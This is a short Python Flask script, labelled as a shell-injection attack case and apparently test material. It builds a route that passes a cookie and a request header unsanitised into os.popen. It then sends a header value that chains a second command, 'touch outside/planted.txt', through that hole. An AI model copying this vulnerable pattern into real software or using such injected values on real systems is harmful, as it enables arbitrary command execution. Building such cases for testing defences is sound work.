# attack: shell-injection
# needs: flask
import os
from flask import Flask, request
app = Flask(__name__)
@app.get("/")
def index():
    os.popen("echo " + request.cookies["who"] + " " + request.headers.get("X-Name", "")).read()
    return "x"
client = app.test_client()
client.set_cookie("who", "ann")
client.get("/", headers={"X-Name": "a && touch outside/planted.txt"})
